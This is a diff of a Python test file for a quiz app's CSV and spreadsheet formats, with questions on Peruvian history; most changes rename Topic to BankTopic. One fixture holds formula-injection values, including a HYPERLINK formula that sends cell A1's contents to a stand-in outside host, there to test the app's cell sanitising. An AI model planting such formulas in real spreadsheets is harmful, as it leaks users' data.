@@ -12,13 +12,13 @@ from hypothesis import strategies as st
 from quizapp.domain.formats import ImportFormatError, Problem
 from quizapp.domain.formats.csv_format import emit, join_list, parse, split_list
 from quizapp.domain.formats.spreadsheet import formula_safe_cell, text_of_cell
-from quizapp.domain.questions import TRUE_FALSE_OPTIONS, QuestionDraft, QuestionType, Topic
+from quizapp.domain.questions import TRUE_FALSE_OPTIONS, BankTopic, QuestionDraft, QuestionType
 
 HEADER = "id,topic,type,prompt,answer,accepted_answers,options,explanation,source,tags\n"
 
 BRENA = QuestionDraft(
     id="q1",
-    topic=Topic.LEADERS,
+    topic=BankTopic.LEADERS,
     type=QuestionType.MULTIPLE_CHOICE,
     prompt="Who led the Breña campaign?",
     answer="Andrés A. Cáceres",
@@ -28,7 +28,7 @@ BRENA = QuestionDraft(
 )
 ANCON = QuestionDraft(
     id="q2",
-    topic=Topic.DATES,
+    topic=BankTopic.DATES,
     type=QuestionType.DATE,
     prompt="When was the Treaty of Ancón signed?",
     answer="20 October 1883",
@@ -56,7 +56,7 @@ def test_columns_in_any_order_and_case_optional_ones_may_be_missing() -> None:
     text = "Answer, PROMPT ,type,topic,id\r\nTRUE,Lima was occupied in 1881.,true_false,events,t1\r\n"
     assert parse(text) == [
         QuestionDraft(
-            "t1", Topic.EVENTS, QuestionType.TRUE_FALSE, "Lima was occupied in 1881.", "True",
+            "t1", BankTopic.EVENTS, QuestionType.TRUE_FALSE, "Lima was occupied in 1881.", "True",
             options=TRUE_FALSE_OPTIONS,
         )
     ]
@@ -154,7 +154,7 @@ def test_join_list_is_the_inverse() -> None:
 def test_emit() -> None:
     tricky = QuestionDraft(
         id="q3",
-        topic=Topic.PEOPLE,
+        topic=BankTopic.PEOPLE,
         type=QuestionType.SHORT_ANSWER,
         prompt='Who said "no"?',
         answer="Cáceres",
@@ -179,7 +179,7 @@ def test_a_row_spanning_lines_is_reported_on_its_first_line() -> None:
 
 FORMULAS = QuestionDraft(
     id="=q4",
-    topic=Topic.LEADERS,
+    topic=BankTopic.LEADERS,
     type=QuestionType.MULTIPLE_CHOICE,
     prompt='=HYPERLINK("http://example.com/?"&A1,"Who led the Breña campaign?")',
     answer="+Cáceres",
